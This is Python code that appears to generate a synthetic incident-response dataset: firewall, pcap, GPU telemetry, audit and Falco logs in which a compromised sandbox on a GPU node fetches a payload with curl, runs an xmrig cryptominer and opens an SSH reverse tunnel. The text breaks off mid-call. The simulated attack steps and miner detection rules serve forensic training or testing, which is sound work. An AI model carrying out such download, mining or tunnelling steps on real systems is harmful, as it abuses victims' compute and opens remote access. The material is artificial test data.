CF_KEYS = ("__time__", "__topic__", "__source__", "__tag__:__receive_time__", "aliuid", "region_id", "log_type",
           "direction", "src_ip", "src_private_ip", "src_port", "dst_ip", "dst_port", "ip_protocol", "app_name",
           "domain", "url", "rule_result", "acl_rule_id", "ips_rule_id", "ips_rule_name", "ips_rule_name_en",
           "attack_type_name", "attack_type_name_en", "vul_level", "start_time", "end_time", "in_packet_bytes",
           "in_packet_count", "out_packet_bytes", "out_packet_count", "total_packet_bytes", "total_packet_count")
MINING = {"ips_rule_id": "1190077", "ips_rule_name": "主机挖矿行为", "ips_rule_name_en": "Mining behavior on the host",
          "attack_type_name": "挖矿行为", "attack_type_name_en": "Mining Behavior", "vul_level": "3"}
BRUTE = {"ips_rule_id": "1010372", "ips_rule_name": "SSH暴力破解", "ips_rule_name_en": "SSH brute force",
         "attack_type_name": "暴力破解", "attack_type_name_en": "Brute Force Attack", "vul_level": "2"}


def cf_record(t: float, *, topic: str = "access", direction: str = "out", src_ip: str, src_private_ip: str = "",
              src_port: int, dst_ip: str, dst_port: int, proto: str = "tcp", app: str = "Unknown", domain: str = "",
              url: str = "", result: str = "pass", acl: str = "", ips: dict | None = None, start: float,
              end: float, up: tuple = (0, 0), down: tuple = (0, 0), delay: int = 3) -> dict:
    """``up`` is (bytes, packets) from the session initiator, ``down`` the reply direction. The
    firewall counts 'out' as leaving the cloud asset and 'in' as arriving at it."""
    asset_out, asset_in = (up, down) if direction == "out" else (down, up)
    rec = dict.fromkeys(CF_KEYS, "")
    ips = ips or {}
    rec.update({
        "__time__": str(int(t)),
        "__topic__": "cloudfirewall_ips_log" if topic == "ips" else "cloudfirewall_access_log",
        "__source__": "cloudfirewall", "__tag__:__receive_time__": str(int(t) + delay), "aliuid": ALIUID,
        "region_id": "cn-hangzhou", "log_type": "internet_ips_log" if topic == "ips" else "internet_log",
        "direction": direction, "src_ip": src_ip, "src_private_ip": src_private_ip, "src_port": str(src_port),
        "dst_ip": dst_ip, "dst_port": str(dst_port), "ip_protocol": proto, "app_name": app, "domain": domain,
        "url": url, "rule_result": result, "acl_rule_id": acl,
        "start_time": str(int(start)), "end_time": str(int(end)),
        "in_packet_bytes": str(asset_in[0]), "in_packet_count": str(asset_in[1]),
        "out_packet_bytes": str(asset_out[0]), "out_packet_count": str(asset_out[1]),
        "total_packet_bytes": str(up[0] + down[0]), "total_packet_count": str(up[1] + down[1]),
    })
    for k, v in ips.items():
        rec[k] = v
    return rec


def _win_records(flow: TcpFlow, start: float, end: float, **kw) -> list:
    """A long session reported once per 10-minute window, and when it ends."""
    out = []
    w = math.floor(start / 600) * 600
    while w < end:
        w1 = min(w + 600, end)
        st = flow.stats(max(w, start - 1), w1 if w1 < end else end + 1)
        out.append(cf_record(w1, start=start, end=w1, up=(st["up_bytes"], st["up_pkts"]),
                             down=(st["down_bytes"], st["down_pkts"]), **kw))
        w += 600
    return out


def cloudfw_incident(world: World) -> list:
    f = world.facts()
    n3, it = world.n3, world.it
    recs = []
    base = dict(src_ip=n3.eip, src_private_ip=n3.ip)
    tun, tinfo = f["tunnel"]
    recs += _win_records(tun, tinfo["syn"], tinfo["end"], src_port=TUNNEL_SPORT, dst_ip=TUNNEL_IP, dst_port=22,
                         app="SSH", **base)
    st, sinfo = f["stratum"]
    recs += _win_records(st, sinfo["syn"], sinfo["end"], src_port=POOL_SPORT, dst_ip=POOL_IP, dst_port=POOL_PORT,
                         domain=POOL_HOST, result="alert", ips=MINING, **base)
    s_ips = st.stats(0, it.ips_alert)
    recs.append(cf_record(it.ips_alert, topic="ips", src_port=POOL_SPORT, dst_ip=POOL_IP, dst_port=POOL_PORT,
                          domain=POOL_HOST, result="alert", ips=MINING, start=sinfo["syn"], end=it.ips_alert,
                          up=(s_ips["up_bytes"], s_ips["up_pkts"]), down=(s_ips["down_bytes"], s_ips["down_pkts"]),
                          delay=1, **base))
    dl, dinfo = f["download"]
    s = dl.stats()
    recs.append(cf_record(dinfo["end"], src_port=DL_SPORT, dst_ip=DL_IP, dst_port=80, app="HTTP", domain=DL_HOST,
                          url=DL_PATH, start=dinfo["start"], end=dinfo["end"], up=(s["up_bytes"], s["up_pkts"]),
                          down=(s["down_bytes"], s["down_pkts"]), **base))
    n1 = world.n1
    for t0, sport, dst, dport, app, dom, url in ((it.blocked_ssh, BLOCKED_SSH_SPORT, TUNNEL_IP, 22, "SSH", "", ""),
                                                 (it.blocked_curl, BLOCKED_CURL_SPORT, DL_IP, 80, "HTTP", DL_HOST, "")):
        t_end = t0 + SYN_RETRIES[-1]
        recs.append(cf_record(t_end + 64.1, src_ip=n1.eip, src_private_ip=n1.ip, src_port=sport, dst_ip=dst,
                              dst_port=dport, app=app, domain=dom, url=url, result="drop", acl=ACL_RULE_ID,
                              start=t0, end=t_end, up=(60 * 7, 7), down=(0, 0)))
    # the inbound SSH brute force against gpu-node-01's EIP
    attempts = brute_force_attempts(world)
    first_drop = None
    for a in attempts:
        kw = dict(topic="access", direction="in", src_ip=BRUTE_IP, src_port=a["sport"], dst_ip=n1.eip, dst_port=22,
                  app="SSH", start=a["t"], end=a["t"] + 3.0, up=(60 * 2, 2), down=(0, 0))
        if a["passed"]:
            recs.append(cf_record(a["t"] + 3.0, **kw))
        else:
            recs.append(cf_record(a["t"] + 3.0, result="drop", ips=BRUTE, **dict(kw, up=(60, 1))))
            if first_drop is None or a["t"] - first_drop >= 300:
                first_drop = a["t"]
                recs.append(cf_record(a["t"] + 0.6, topic="ips", direction="in", src_ip=BRUTE_IP, src_port=a["sport"],
                                      dst_ip=n1.eip, dst_port=22, app="SSH", result="drop", ips=BRUTE, start=a["t"],
                                      end=a["t"], up=(60, 1), delay=1))
    return recs


def cloudfw_records(world: World):
    seed = world.seed
    fixed = cloudfw_incident(world)
    for node in world.nodes:
        t = DAY0 + 33.0 + 19.7 * node.n
        r = rng_for(seed, "ntp-cf", node.n)
        while t < world.log_end:
            fixed.append(cf_record(t + 0.05, src_ip=node.eip, src_private_ip=node.ip, src_port=r.randint(32768, 60999),
                                   dst_ip=NTP_IP, dst_port=123, proto="udp", app="NTP", start=t, end=t + 0.05,
                                   up=(76, 1), down=(76, 1), delay=2 + r.randrange(6)))
            t += 2048.0 + r.random() * 3
    fixed = [(float(rec["__time__"]), 0, rec) for rec in fixed]
    fixed.sort(key=lambda x: (x[0], x[2]["src_port"]))

    def benign(tr: Traj) -> list:
        out = []
        for s in tr.steps:
            for eg in s.egress:
                f = benign_flow(world, tr, eg, frames=False)
                st = f.stats()
                end = f.pkts[-1][0] if f.pkts else eg.t
                end = max(p[0] for p in f.pkts)
                rec = cf_record(end, src_ip=tr.node.eip, src_private_ip=tr.node.ip, src_port=eg.sport, dst_ip=eg.dst,
                                dst_port=eg.dport, app=eg.app, domain=eg.domain, start=eg.t, end=end,
                                up=(st["up_bytes"], st["up_pkts"]), down=(st["down_bytes"], st["down_pkts"]),
                                delay=2 + int(eg.t) % 7)
                out.append((float(int(end)), 1, rec))
        return out

    stream = sweep(world.trajectories(), lambda tr: float(int(tr.start)), benign)
    return merge_timed(iter(fixed), stream)


def write_cloudfw(world: World, out: str) -> list:
    sink = Sink(os.path.join(out, "cloudfirewall", "cloudfirewall-logstore_dump_0.json"))
    for t, _, rec in cloudfw_records(world):
        if DAY0 <= t < world.log_end:
            sink.write(json.dumps(rec, ensure_ascii=False, separators=(",", ":")) + "\n")
    sink.close()
    return [sink.path]


# -- pcap ----------------------------------------------------------------------------------------

def write_pcap(world: World, out: str) -> list:
    seed, n3 = world.seed, world.n3
    inc = incident_flows(world, frames=True)
    facts = world.facts()
    for name in ("tunnel", "stratum", "download", "git"):  # the replay must match the facts exactly
        a = [(p[0], p[3], p[4]) for p in inc[name][0].pkts]
        b = [(p[0], p[3], p[4]) for p in facts[name][0].pkts]
        assert a == b, f"{name}: frame and count simulations differ"
    specs = []  # (start, order, builder)
    for name in ("tunnel", "stratum", "download", "git"):
        f = inc[name][0]
        specs.append((f.start, len(specs), (lambda f=f: f)))
    for _, ex in inc["dns"]:
        specs.append((ex.start, len(specs), (lambda ex=ex: ex)))
    for a, f in inc["probe"]:
        specs.append((f.start, len(specs), (lambda f=f: f)))
    for t, key, sport, port in monitor_sweeps(world, n3):
        if PCAP_START <= t < PCAP_END:
            specs.append((t, len(specs), (lambda key=key, sport=sport, port=port, t=t:
                                          flow_monitor(seed, key, n3, sport, port, t))))
    for tr in world.node_trajectories(n3, PCAP_START - 1300, PCAP_END):
        for s in tr.steps:
            for eg in s.egress:
                if eg.kind != "tls" or not (PCAP_START <= eg.dns_t and eg.t < PCAP_END):
                    continue
                specs.append((eg.dns_t, len(specs), (lambda tr=tr, eg=eg: dns_lookup(
                    rng_for(seed, "dns", tr.number, int(eg.t * 1000)), eg.dns_t, n3.ip, n3.mac, eg.domain, eg.dst))))
                specs.append((eg.t, len(specs), (lambda tr=tr, eg=eg: benign_flow(world, tr, eg, frames=True))))
    specs.sort(key=lambda x: (x[0], x[1]))

    def produce(spec):
        obj = spec[2]()
        return [(p[0], p[1], p[2]) for p in obj.packets()]

    path = os.path.join(out, "pcap", "gpu-node-03-egress.pcap")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    n = 0
    last = 0
    with open(path, "wb") as fh:
        fh.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 1))
        for t, _, frame in sweep(specs, lambda s: s[0], produce):
            if not (PCAP_START <= t < PCAP_END):
                continue
            us = int(round(t * 1e6))
            us = max(us, last)
            last = us
            sec, usec = divmod(us, 1_000_000)
            fh.write(struct.pack("<IIII", sec, usec, len(frame), len(frame)) + frame)
            n += 1
    return [path]


# -- GPU telemetry -------------------------------------------------------------------------------

DCGM_METRICS = (
    ("DCGM_FI_DEV_SM_CLOCK", "SM clock frequency (in MHz).", "clock", "int"),
    ("DCGM_FI_DEV_GPU_UTIL", "GPU utilization (in %).", "util", "int"),
    ("DCGM_FI_DEV_FB_USED", "Framebuffer memory used (in MiB).", "fb", "int"),
    ("DCGM_FI_DEV_POWER_USAGE", "Power draw (in W).", "power", "float"),
    ("DCGM_FI_PROF_GR_ENGINE_ACTIVE", "Ratio of time the graphics engine is active.", "gr", "float"),
    ("DCGM_FI_PROF_PIPE_TENSOR_ACTIVE", "Ratio of cycles the tensor (HMMA) pipe is active.", "tensor", "float"),
    ("DCGM_FI_PROF_DRAM_ACTIVE", "Ratio of cycles the device memory interface is active sending or receiving data.",
     "dram", "float"),
)


def dcgm_labels(node: Node, g: Gpu) -> str:
    return (f'gpu="{g.index}",UUID="{g.uuid}",pci_bus_id="{g.bus}",device="nvidia{g.index}",modelName="{GPU_MODEL}",'
            f'Hostname="{node.name}",DCGM_FI_DRIVER_VERSION="{DRIVER}",container="{g.container}",'
            f'namespace="{g.namespace}",pod="{g.pod}",hpc_job="{g.job}"')


def dcgm_scrape_times(world: World, node: Node):
    j = 0
    while True:
        t = DCGM_START + 60.0 * j + 0.7 * node.n + abs(_noise(world.seed, "scrape", node.n, j)) * 0.05
        if t >= DCGM_END + 1:
            return
        yield t
        j += 1


def write_gpu(world: World, out: str) -> list:
    seed = world.seed
    paths = []
    for node in world.nodes:
        sink = Sink(os.path.join(out, "gpu", node.name, "dcgm-exporter.prom.gz"), gz=True)
        labels = [dcgm_labels(node, g) for g in node.gpus]
        for t in dcgm_scrape_times(world, node):
            ms = int(round(t * 1000))
            samples = [gpu_sample(seed, node, g, t) for g in node.gpus]
            parts = []
            for name, help_text, key, kind in DCGM_METRICS:
                parts.append(f"# HELP {name} {help_text}\n# TYPE {name} gauge\n")
                for lab, s in zip(labels, samples):
                    v = s[key]
                    val = str(v) if kind == "int" else f"{v:.6f}"
                    parts.append(f"{name}{{{lab}}} {val} {ms}\n")
            sink.write("".join(parts))
        sink.close()
        paths.append(sink.path)
    # nvidia-smi --query-compute-apps on gpu-node-03 (node clock: local time, 4.2 s slow)
    n3 = world.n3
    sink = Sink(os.path.join(out, "nodes", n3.name, "nvidia-smi-compute-apps.csv"))
    sink.write("timestamp, gpu_uuid, gpu_bus_id, pid, process_name, used_gpu_memory [MiB]\n")
    k = 0
    while True:
        t = SMI_START + 10.0 + 60.0 * k + 0.0093 * k + abs(_noise(seed, "smi", k)) * 0.04
        if t >= SMI_END:
            break
        stamp = smi_stamp(t + n3.skew)
        rows = []
        for g in n3.gpus:
            s = gpu_sample(seed, n3, g, t)
            mine = miner_on(n3, g, t)
            rows.append(f"{stamp}, {g.uuid}, {g.bus}, {g.train_pid}, /opt/conda/bin/python3, "
                        f"{s['fb'] - 512 - (2354 if mine else 0)} MiB\n")
            if mine:
                rows.append(f"{stamp}, {g.uuid}, {g.bus}, {XMRIG_PID}, {XMRIG_PATH}, 2354 MiB\n")
        sink.write("".join(rows))
        k += 1
    sink.close()
    paths.append(sink.path)
    return paths


# -- audit.log (gpu-node-03) ---------------------------------------------------------------------

def _audit_needs_hex(s: str) -> bool:
    return any(c == '"' or ord(c) < 0x21 or ord(c) > 0x7E for c in s)


def _audit_val(s: str) -> str:
    return s.encode().hex().upper() if _audit_needs_hex(s) else f'"{s}"'


def _proctitle(argv: list) -> str:
    raw = "\0".join(argv).encode()[:128]
    if len(argv) == 1 and not _audit_needs_hex(argv[0]):
        return f'"{argv[0]}"'
    return raw.hex().upper()


def _execve_records(argv: list) -> list:
    """EXECVE record bodies; a long argument is split like the kernel does (aN_len, aN[i])."""
    recs = []
    cur = f"argc={len(argv)}"
    room = 7500 - len(cur)
    for i, a in enumerate(argv):
        enc = _audit_val(a)
        if len(enc) + 8 <= room:
            cur += f" a{i}={enc}"
            room -= len(enc) + 5
            continue
        is_hex = not enc.startswith('"')
        data = a.encode()
        cur += f" a{i}_len={len(data)}"
        room -= 16
        pos, it = 0, 0
        while pos < len(data):
            take = max(1, (room - 12) // (2 if is_hex else 1))
            chunk = data[pos:pos + take]
            enc_chunk = chunk.hex().upper() if is_hex else f'"{chunk.decode()}"'
            cur += f" a{i}[{it}]={enc_chunk}"
            pos += len(chunk)
            it += 1
            if pos < len(data):
                recs.append(cur)
                cur = ""
                room = 7500
        room -= 8
    recs.append(cur)
    return [r.lstrip(" ") for r in recs]


def _sockaddr(ip: str, port: int) -> str:
    return ("0200" + f"{port:04X}" + _ip4(ip).hex().upper() + "0" * 16)


class AuditWriter:
    def __init__(self, world: World, sink: Sink):
        self.world = world
        self.sink = sink
        self.skew = world.n3.skew
        self.serial = 903_417
        self.inode = {}

    def _hdr(self, t: float, kind: str) -> str:
        return f"type={kind} msg=audit({int(math.floor((t + self.skew) * 1000)) / 1000:.3f}:{self.serial}): "

    def _ino(self, path: str) -> int:
        return 1_835_000 + int(hexdigest(0, "inode", path, n=5), 16) % 400_000

    def execve(self, t, pid, ppid, e: Exec, uid, subj):
        self.serial += 1 + (self.serial * 7 % 3 == 0)
        h = lambda kind: self._hdr(t, kind)  # noqa: E731
        comm = e.comm or os.path.basename(e.exe)[:15]
        items = 1 if e.static else 2
        a0 = 0x5600_0000_0000 + int(hexdigest(0, "a0", pid, n=7), 16)
        lines = [h("SYSCALL") + f"arch=c000003e syscall=59 success=yes exit=0 a0={a0:x} a1={a0 + 0x2a0:x} "
                 f"a2={a0 + 0x4f8:x} a3=8 items={items} ppid={ppid} pid={pid} auid=4294967295 uid={uid} gid={uid} "
                 f"euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=(none) ses=4294967295 "
                 f'comm="{comm}" exe="{e.exe}" subj={subj} key="exec"']
        for body in _execve_records(e.argv):
            lines.append(h("EXECVE") + body)
        lines.append(h("CWD") + f'cwd="{e.cwd}"')
        name = e.path_name or e.exe
        lines.append(h("PATH") + f'item=0 name="{name}" inode={self._ino(name)} dev=00:2c mode=0100755 ouid=0 ogid=0 '
                     "rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")
        if items == 2:
            lines.append(h("PATH") + f'item=1 name="/lib64/ld-linux-x86-64.so.2" inode=1836019 dev=00:2c mode=0100755 '
                         "ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")
        lines.append(h("PROCTITLE") + "proctitle=" + _proctitle(e.argv))
        self.sink.write("\n".join(lines) + "\n")

    def connect(self, t, pid, ppid, comm, exe, argv, ip, port, code, uid, subj):
        self.serial += 1
        h = lambda kind: self._hdr(t, kind)  # noqa: E731
        ok = "yes" if code == 0 else "no"
        lines = [h("SYSCALL") + f"arch=c000003e syscall=42 success={ok} exit={code} a0=3 a1=7ffd{pid:08x} a2=10 a3=0 "
                 f"items=0 ppid={ppid} pid={pid} auid=4294967295 uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} "
                 f'egid={uid} sgid={uid} fsgid={uid} tty=(none) ses=4294967295 comm="{comm}" exe="{exe}" subj={subj} '
                 'key="net_connect"',
                 h("SOCKADDR") + "saddr=" + _sockaddr(ip, port),
                 h("PROCTITLE") + "proctitle=" + _proctitle(argv)]
        self.sink.write("\n".join(lines) + "\n")

    def raw(self, t, kind, body):
        self.serial += 1
        self.sink.write(self._hdr(t, kind) + body + "\n")


SANDBOX_SUBJ = "cri-containerd.apparmor.d (enforce)"


def node3_process_events(world: World, t0: float, t1: float):
    """(t, order, event) for gpu-node-03 processes: sandbox trees (init, sshd, shell, commands),
    the connects they make, the operator's sessions through the tunnel, and the responders."""
    seed, n3 = world.seed, world.n3
    inc = incident_processes(world)
    reserved = inc["reserved"]

    def traj_events(tr: Traj) -> list:
        if tr.number == 317:
            return inc["events"]
        ev = []
        base_t = tr.created
        cid = tr.cid(seed)
        ev.append((base_t, 0, ("spawn", tr.sbx, "init", None, Exec(base_t, [
            "/usr/local/bin/sandbox-init", "--sandbox-id", tr.sbx, "--container-id", cid],
            "/usr/local/bin/sandbox-init", "/", uid=0))))
        ev.append((base_t + 0.312, 0, ("spawn", tr.sbx, "sshd", "init", Exec(base_t + 0.312, ["/usr/sbin/sshd", "-D", "-e"],
                                                                        "/usr/sbin/sshd", "/", uid=0))))
        ev.append((base_t + 0.604, 0, ("spawn", tr.sbx, "shell", "init", Exec(base_t + 0.604, [
            "/bin/bash", "--noprofile", "--norc"], "/usr/bin/bash", f"/workspace/{tr.repo}", path_name="/bin/bash"))))
        for si, s in enumerate(tr.steps):
            for xi, e in enumerate(s.execs):
                parent = "shell" if e.parent is None else f"s{si}x{e.parent}"
                ev.append((e.t, 0, ("spawn", tr.sbx, f"s{si}x{xi}", parent, e)))
                for c in e.connects:
                    ev.append((c[0], 1, ("connect", tr.sbx, f"s{si}x{xi}", c, e)))
        return ev

    trajs = (tr for tr in world.node_trajectories(n3, t0 - 1500, t1))
    stream = sweep(trajs, lambda tr: tr.created - 0.5, traj_events)
    host = [(t, 2, ev) for t, _, ev in inc["host_events"]]
    return merge_timed(stream, iter(host)), inc


def incident_processes(world: World) -> dict:
    """Fixed PIDs for everything the incident touches on gpu-node-03."""
    seed, n3, it = world.seed, world.n3, world.it
    plan = plan_malicious(seed, n3, world.wallet, it)
    tr = world.pinned_info()[317]
    cid = tr.cid(seed)
    f = world.facts()
    tinfo = f["tunnel"][1]
    procs = []  # (t, name, parent, Exec)
    created = plan.created
    procs.append((created, "init", None, Exec(created, ["/usr/local/bin/sandbox-init", "--sandbox-id", plan.sbx,
                                                        "--container-id", cid], "/usr/local/bin/sandbox-init", "/", uid=0)))
    procs.append((created + 0.312, "sshd", "init", Exec(created + 0.312, ["/usr/sbin/sshd", "-D", "-e"], "/usr/sbin/sshd",
                                                        "/", uid=0)))
    procs.append((created + 0.604, "shell", "init", Exec(created + 0.604, ["/bin/bash", "--noprofile", "--norc"],
                                                          "/usr/bin/bash", "/workspace/textstats", path_name="/bin/bash")))
    for si, s in enumerate(plan.steps):
        for xi, e in enumerate(s.execs):
            parent = "shell" if e.parent is None else f"s{si}x{e.parent}"
            if e.same_pid_as is not None:
                parent = f"same:s{si}x{e.same_pid_as}"
            procs.append((e.t, f"s{si}x{xi}", parent, e))
    ssh_step = next(i for i, s in enumerate(plan.steps) if s.label == "tunnel")
    ssh_name = f"s{ssh_step}x0"
    procs.append((tinfo["forward_ready"] + 0.0104, "tunnel_daemon", "fork:" + ssh_name, None))
    # the operator's sessions: sshd re-exec per connection, a login shell, the commands typed
    for k, sess in enumerate(tinfo["sessions"]):
        tc = sess["local_connect"]
        procs.append((tc + 0.0012, f"op{k}_sshd", "sshd", Exec(tc + 0.0012, ["/usr/sbin/sshd", "-D", "-e", "-R"],
                                                             "/usr/sbin/sshd", "/", uid=0)))
        procs.append((sess["login"] + 0.021, f"op{k}_bash", f"op{k}_sshd",
                      Exec(sess["login"] + 0.021, ["-bash"], "/usr/bin/bash", "/home/sandbox", path_name="/bin/bash",
                           comm="bash")))
        for j, c in enumerate(sess["commands"]):
            if c["command"] == "exit" or "enter" not in c:
                continue
            te = c["enter"] + 0.0021
            if c["command"].startswith("ps "):
                procs.append((te, f"op{k}_c{j}a", f"op{k}_bash", Exec(te, ["ps", "-eo", "pid,etime,args"], "/usr/bin/ps",
                                                                     "/home/sandbox")))
                procs.append((te + 0.0003, f"op{k}_c{j}b", f"op{k}_bash", Exec(te + 0.0003, ["grep", "[x]mrig"],
                                                                              "/usr/bin/grep", "/home/sandbox")))
            else:
                argv = c["command"].split()
                exe = {"id": "/usr/bin/id", "uname": "/usr/bin/uname", "nvidia-smi": "/usr/bin/nvidia-smi"}[argv[0]]
                procs.append((te, f"op{k}_c{j}", f"op{k}_bash", Exec(te, argv, exe, "/home/sandbox")))
    # the responders on the host
    host = [(hms("04:39:31.820"), "r_sudo1", None, Exec(hms("04:39:31.820"), ["sudo", "crictl", "ps", "--name", plan.sbx],
                                                         "/usr/bin/sudo", "/home/ops", uid=1001)),
            (hms("04:39:31.846"), "r_crictl1", "r_sudo1", Exec(hms("04:39:31.846"), ["crictl", "ps", "--name", plan.sbx],
                                                                "/usr/local/bin/crictl", "/home/ops", uid=0)),
            (hms("04:39:59.962"), "r_sudo2", None, None),
            (hms("04:39:59.981"), "r_kill", "r_sudo2", None),
            (hms("04:41:09.613"), "r_sudo3", None, Exec(hms("04:41:09.613"), ["sudo", "crictl", "rm", "-f", cid],
                                                         "/usr/bin/sudo", "/home/ops", uid=1001)),
            (hms("04:41:09.640"), "r_crictl3", "r_sudo3", Exec(hms("04:41:09.640"), ["crictl", "rm", "-f", cid],
                                                                "/usr/local/bin/crictl", "/home/ops", uid=0))]
    procs += host
    procs.sort(key=lambda x: x[0])
    pids: dict = {}
    last = 0
    for t, name, parent, e in procs:
        if parent and parent.startswith("same:"):
            pids[name] = pids[parent[5:]]
            continue
        if e is not None and e.pid is not None:
            pid = e.pid
        else:
            pid = max(last + 1, world.pid3.floor_pid(t))
        pids[name] = pid
        last = max(last, pid)
    assert pids[next(n for t, n, p, e in procs if e is not None and e.pid == XMRIG_PID)] == XMRIG_PID
    pids["shim"] = pids["init"] - 3
    pids["ops_shell"] = world.pid3.floor_pid(hms("04:31:02")) - 40
    kill_argv = ["kill", "-9", str(XMRIG_PID), str(pids["tunnel_daemon"])]
    for i, (t, name, parent, e) in enumerate(procs):
        if name == "r_sudo2":
            procs[i] = (t, name, parent, Exec(t, ["sudo"] + kill_argv, "/usr/bin/sudo", "/home/ops", uid=1001))
        if name == "r_kill":
            procs[i] = (t, name, parent, Exec(t, kill_argv, "/usr/bin/kill", "/home/ops", uid=0))
    parent_of = {name: parent for _, name, parent, _ in procs}
    execs = {name: e for _, name, _, e in procs}
    events = []
    host_events = []
    for t, name, parent, e in procs:
        if e is None:
            continue
        if parent and parent.startswith("same:"):
            ppid_name = parent_of[parent[5:]]
        else:
            ppid_name = parent
        if ppid_name:
            ppid = pids.get(ppid_name)
        else:
            ppid = pids["shim"] if name == "init" else pids["ops_shell"]
        ev = ("fixed", name, pids[name], ppid, e)
        (host_events if name.startswith("r_") else events).append((t, 0, ev))
        for c in e.connects:
            events.append((c[0], 1, ("fixed_connect", name, pids[name], None, (e, c))))
    # the tunnel daemon's local connects to the sandbox sshd, one per operator session
    for sess in tinfo["sessions"]:
        ssh_e = execs[ssh_name]
        events.append((sess["local_connect"], 1, ("fixed_connect", "tunnel_daemon", pids["tunnel_daemon"], None,
                                                  (ssh_e, (sess["local_connect"], "127.0.0.1", 22, 0)))))
        events.append((sess["login"] + 0.0004, 1, ("pam", sess)))
    events.sort(key=lambda x: (x[0], x[1]))
    return {"events": events, "host_events": host_events, "pids": pids, "procs": procs, "parent_of": parent_of,
            "reserved": set(pids.values()), "plan": plan}


def write_audit(world: World, out: str) -> list:
    sink = Sink(os.path.join(out, "nodes", world.n3.name, "audit.log"))
    aw = AuditWriter(world, sink)
    events, inc = node3_process_events(world, AUDIT_START, AUDIT_END)
    pid3 = world.pid3
    reserved = inc["reserved"]
    inc_pids = sorted((t, pids) for t, pids in ((t, inc["pids"].get(name)) for t, name, _, _ in inc["procs"]) if pids)
    inc_times = [t for t, _ in inc_pids]
    running_max = []
    m = 0
    for _, p in inc_pids:
        m = max(m, p)
        running_max.append(m)
    counter = 0
    table: dict = {}
    fixed_ppid = {}
    for name, parent in inc["parent_of"].items():
        while parent and parent.startswith("same:"):
            parent = inc["parent_of"].get(parent[5:])
        if parent and not parent.startswith("fork:") and parent in inc["pids"]:
            fixed_ppid[name] = inc["pids"][parent]
    fixed_ppid["tunnel_daemon"] = 1

    def alloc(t: float) -> int:
        nonlocal counter
        i = bisect.bisect_right(inc_times, t) - 1
        floor = max(counter + 1, pid3.floor_pid(t), (running_max[i] + 1) if i >= 0 else 0)
        while floor in reserved:
            floor += 1
        counter = floor
        return floor

    for t, _, ev in events:
        kind = ev[0]
        write = AUDIT_START <= t < AUDIT_END
        if kind == "spawn":
            _, sbx, name, parent, e = ev
            pids = table.setdefault(sbx, {})
            pid = alloc(t)
            pids[name] = pid
            if name == "init":
                ppid = pid - 2
            else:
                ppid = pids.get(parent, 1)
            pids[name + "^"] = ppid
            if write:
                aw.execve(t, pid, ppid, e, e.uid, SANDBOX_SUBJ)
        elif kind == "connect":
            _, sbx, name, c, e = ev
            pids = table.get(sbx, {})
            pid = pids.get(name)
            if pid is not None and write:
                aw.connect(c[0], pid, pids.get(name + "^", 1), e.comm or os.path.basename(e.exe)[:15], e.exe, e.argv,
                           c[1], c[2], c[3], e.uid, SANDBOX_SUBJ)
        elif kind == "fixed":
            _, name, pid, ppid, e = ev
            if write:
                host = name.startswith("r_")
                aw.execve(t, pid, ppid if ppid else 1, e, e.uid, "unconfined" if host else SANDBOX_SUBJ)
        elif kind == "fixed_connect":
            _, name, pid, _, (e, c) = ev
            if write:
                aw.connect(c[0], pid, fixed_ppid.get(name, 1), e.comm or os.path.basename(e.exe)[:15], e.exe, e.argv,
                           c[1], c[2], c[3], e.uid, SANDBOX_SUBJ)
        elif kind == "pam":
            sess = ev[1]
            k = next(i for i, s in enumerate(world.facts()["tunnel"][1]["sessions"]) if s is sess)
            pid = inc["pids"][f"op{k}_sshd"]
            if write:
                for typ, op in (("USER_AUTH", "PAM:authentication"), ("USER_ACCT", "PAM:accounting"),
                                ("USER_START", "PAM:session_open")):
                    aw.raw(t + (0.0 if typ == "USER_AUTH" else 0.0031), typ,
                           f"pid={pid} uid=0 auid=4294967295 ses=4294967295 subj={SANDBOX_SUBJ} msg='op={op} "
                           f'grantors=pam_unix acct="sandbox" exe="/usr/sbin/sshd" hostname=127.0.0.1 addr=127.0.0.1 '
                           "terminal=ssh res=success'")
    sink.close()
    return [sink.path]


# -- Falco ---------------------------------------------------------------------------------------

def falco_alerts(world: World) -> list:
    seed, n3, it = world.seed, world.n3, world.it
    inc = incident_processes(world)
    pids, plan = inc["pids"], inc["plan"]
    tr = world.pinned_info()[317]
    cid = tr.cid(seed)
    dl_step = next(i for i, s in enumerate(plan.steps) if s.label == "download")
    mine_step = next(i for i, s in enumerate(plan.steps) if s.label == "mining")
    curl_pid, shell_pid = pids[f"s{dl_step}x1"], pids["shell"]
    curl_cmd = f"curl -sSL -o x.tgz http://{DL_HOST}{DL_PATH}"
    xm_args = " ".join(plan.steps[mine_step].execs[1].argv[1:])
    alerts = []

    def alert(t, rule, prio, text, fields, tags, extra):
        sk = t + n3.skew
        ns = epoch_ns(sk, extra)
        head = time.strftime("%H:%M:%S", time.gmtime(int(sk))) + f".{ns % 1_000_000_000:09d}"
        of = {"container.id": fields.pop("container.id"), "evt.time": ns}
        of.update(fields)
        of["hostname"] = n3.name
        alerts.append((t, {"hostname": n3.name, "output": f"{head}: {prio} {text}",
                           "output_fields": dict(sorted(of.items())), "priority": prio, "rule": rule,
                           "source": "syscall", "tags": tags, "time": iso_ns(sk, extra)}))

    alert(it.dl_exec_curl + 0.0004, "Launch Ingress Remote File Copy Tools in Container", "Notice",
          f"Detected ingress remote file copy tool launched in container (evt_type=execve user=sandbox user_uid=1000 "
          f"user_loginuid=-1 process=curl proc_exepath=/usr/bin/curl parent=bash command={curl_cmd} terminal=0 "
          f"container_id={cid} container_name={tr.sbx})",
          {"container.id": cid, "proc.cmdline": curl_cmd, "proc.pid": curl_pid, "proc.ppid": shell_pid,
           "proc.name": "curl", "proc.exepath": "/usr/bin/curl", "k8s.pod.name": tr.sbx, "k8s.ns.name": "sandboxes",
           "fd.sip": None, "fd.sport": None, "fd.name": None, "user.name": "sandbox"},
          ["container", "maturity_sandbox", "mitre_command_and_control", "network", "process", "T1105"], 118)
    alert(it.xmrig_exec + 0.0013, "Detect crypto miners using the Stratum protocol", "Critical",
          f"Possible miner running (command=xmrig {xm_args} pid={XMRIG_PID} file=<NA> container_id={cid} "
          f"container_name={tr.sbx})",
